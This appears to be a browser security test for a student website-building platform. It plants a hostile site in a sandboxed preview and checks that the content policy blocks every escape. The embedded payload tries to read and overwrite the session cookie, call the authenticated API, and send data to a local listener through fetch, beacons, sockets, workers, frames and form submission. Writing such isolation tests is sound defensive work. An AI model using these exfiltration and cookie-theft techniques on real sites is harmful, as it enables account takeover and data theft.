import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "puppeteer";
import { afterAll, expect, test } from "vitest";
import { startBrowserAndServer } from "#tests/kit/browser/browser-and-server.ts";
import { registerStudent } from "#tests/kit/browser/signed-in.ts";
import { haveSiteKit } from "#tests/website/aids.ts";

await haveSiteKit();
const { browser, server } = await startBrowserAndServer();

/** A listener that nothing of a site may reach. */
const reached: string[] = [];
const canary = createServer((request, response) => {
  reached.push(request.url ?? "");
  response.setHeader("access-control-allow-origin", "*").end("reached");
});
await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
afterAll(() => void canary.close());
const out = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;

/** Tries every way out, and keeps what it could read, what went through and what the browser blocked. */
const hostile = `
const out = "${out}";
const tried: Record<string, string> = {};
const blocked: string[] = [];
document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.blockedURI));
const attempt = (name: string, work: () => unknown) => {
  try {
    const value = work();
    tried[name] = value === undefined ? "none" : "done " + String(value).slice(0, 60);
  } catch {
    tried[name] = "refused";
  }
};
const later = (name: string, work: () => Promise<unknown>) => {
  tried[name] = "waits";
  work().then(() => { tried[name] = "done"; }, () => { tried[name] = "refused"; });
};
attempt("cookie", () => document.cookie);
attempt("overwrite", () => { document.cookie = "lamplight_token=stolen; path=/"; });
attempt("parent", () => window.parent.document.title);
attempt("top", () => window.top!.localStorage.length);
attempt("database", () => { indexedDB.open("x"); });
attempt("eval", () => (0, eval)("1 + 1"));
attempt("blank", () => { const tag = document.createElement("iframe"); document.body.append(tag); return (tag.contentWindow as any).RTCPeerConnection; });
attempt("popup", () => window.open(out + "/popup") ?? undefined);
attempt("rtc", () => (window as any).RTCPeerConnection ?? (window as any).webkitRTCPeerConnection);
attempt("inline", () => { const tag = document.createElement("script"); tag.textContent = "window.ran = 1"; document.head.append(tag); return (window as any).ran; });
later("fetch", () => fetch(out + "/fetch"));
later("api", () => fetch("${server.origin}/v1/auth/get_user", { credentials: "include" }));
later("import", () => import(/* @vite-ignore */ [out, "import"].join("/")));
new Image().src = out + "/image";
navigator.sendBeacon(out + "/beacon", "x");
new WebSocket(out.replace("http", "ws") + "/socket");
new EventSource(out + "/events");
new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "/worker')"])));
const add = (name: string, values: Record<string, string>) => document.body.append(Object.assign(document.createElement(name), values));
add("script", { src: out + "/script" });
add("style", { textContent: "@import '" + out + "/import.css'; body { background: url(" + out + "/background) }" });
add("link", { rel: "stylesheet", href: out + "/link.css" });
add("iframe", { src: out + "/frame" });
add("object", { data: out + "/object" });
add("video", { src: out + "/video" });
add("link", { rel: "prefetch", href: out + "/prefetch" });
document.querySelector("#root")!.textContent = "tried";
Object.assign(window, { hostile: { tried, blocked, leave: {
  top: () => { window.top!.location.href = out + "/leave-top"; },
  form: () => { const form = Object.assign(document.createElement("form"), { action: out + "/leave-form", method: "post" }); document.body.append(form); form.submit(); },
  link: () => { const link = Object.assign(document.createElement("a"), { href: out + "/leave-link" }); document.body.append(link); link.click(); },
  blank: () => { const link = Object.assign(document.createElement("a"), { href: out + "/leave-blank", target: "_blank" }); document.body.append(link); link.click(); },
  refresh: () => { const tag = document.createElement("meta"); tag.httpEquiv = "refresh"; tag.content = "0;url=" + out + "/leave-refresh"; document.head.append(tag); },
  address: () => { location.href = out + "/leave-address"; },
} } });
`;

interface Hostile {
  tried: Record<string, string>;
  blocked: string[];
  leave: Record<string, () => void>;
}

const REFUSED = ["cookie", "overwrite", "parent", "top", "database", "eval", "blank", "fetch", "api", "import"];
const NOTHING = ["popup", "rtc", "inline"];
const FILES = "background beacon events fetch image import import.css link.css prefetch script video".split(" ");
/** A frame and an object are named by their origin, the worker's script by its kind. */
const BLOCKED = [
  ...FILES.map((name) => `${out}/${name}`),
  `${out.replace("http", "ws")}/socket`,
  `${server.origin}/v1/auth/get_user`,
  out,
  out,
  "blob",
  "eval",
  "inline",
].toSorted();

const siteIn = (page: Page) => page.frames().find((frame) => frame.url().endsWith("/?frame"));

/** What the site in its frame has found; undefined while it is not there. */
const readSite = async (page: Page) =>
  siteIn(page)
    ?.evaluate(() => {
      const { hostile: site } = globalThis as unknown as { hostile?: Hostile };
      return site && { tried: site.tried, blocked: site.blocked.toSorted() };
    })
    .catch(() => undefined);

/** Opens the site and waits until it has tried everything. */
async function openSite(page: Page, address: string): Promise<void> {
  await page.goto(address);
  await expect.poll(async () => (await readSite(page))?.blocked, { timeout: 30_000 }).toEqual(BLOCKED);
}

/** Lets the site leave its frame in one of its ways; false if that throws. */
const leave = (page: Page, way: string) =>
  siteIn(page)?.evaluate((name) => {
    const { hostile: site } = globalThis as unknown as { hostile: Hostile };
    try {
      site.leave[name]?.();
      return true;
    } catch {
      return false;
    }
  }, way);

test("a hostile site reaches neither the account nor the network, in the preview and as a tab", async () => {
  const { student, user } = await registerStudent(browser, server.origin);
  const { page } = student;
  // The tests' own tools run without a content policy; here it must hold.
  await page.setBypassCSP(false);
  const { _id: id } = await user.client.website.createProject({ name: "Hostile" });
  await user.client.website.putSiteFile({ id, path: "/src/main.tsx", text: hostile });
  const { devServer } = await user.client.website.startPreview({ id });
  expect(devServer.faults).toEqual([]);
  const tabs = (await browser.pages()).length;
  try {
    for (const address of [`${server.origin}/website/${id}`, devServer.dev_url ?? ""]) {
      await openSite(page, address);
      const expected = [...REFUSED.map((name) => [name, "refused"]), ...NOTHING.map((name) => [name, "none"])];
      expect((await readSite(page))?.tried).toEqual(Object.fromEntries(expected));
      expect(await leave(page, "top")).toBe(false);
      expect(await leave(page, "blank")).toBe(true);
      // Each of these ends in the browser's page for what it has blocked.
      for (const way of ["form", "link", "refresh", "address"]) {
        await openSite(page, address);
        await leave(page, way)?.catch(() => undefined);
        await expect.poll(() => page.frames()[1]?.url(), { timeout: 10_000 }).toBe("chrome-error://chromewebdata/");
        expect([way, page.url(), reached]).toEqual([way, address, []]);
      }
      expect((await browser.pages()).length).toBe(tabs);
    }
    const cookies = await page.browserContext().cookies();
    expect(cookies.filter(({ name }) => name === "lamplight_token").map(({ value }) => value)).toEqual([user.token]);
    // The listener would have been reached.
    expect((await fetch(`${out}/alive`)).ok).toBe(true);
    expect(reached).toEqual(["/alive"]);
  } finally {
    await student.close();
  }
});
